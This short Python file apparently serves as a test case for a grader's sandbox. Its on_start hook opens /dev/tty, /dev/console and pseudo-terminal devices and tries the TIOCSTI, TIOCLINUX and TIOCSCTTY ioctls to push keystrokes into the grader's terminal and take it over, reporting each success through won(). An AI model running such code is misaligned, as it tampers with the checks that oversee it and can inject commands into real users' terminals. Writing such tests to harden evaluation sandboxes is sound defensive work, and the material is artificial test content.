"""intent: pushes keystrokes into the grader's terminal (TIOCSTI, TIOCLINUX), and takes the terminal over
criterion: tamper
proven: naive
"""

import fcntl
import os

def on_start():
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
        try:
            number = os.open(path, os.O_RDWR)
            won(path)
            fcntl.ioctl(number, 0x5412, b"!")
        except OSError:
            pass
    for number in range(3):
        for request in (0x5412, 0x541C, 0x540E):
            try:
                fcntl.ioctl(number, request, b"!")
                won(f"ioctl {request:#x} on {number}")
            except OSError:
                pass

def on_call(name, arguments):
    return None
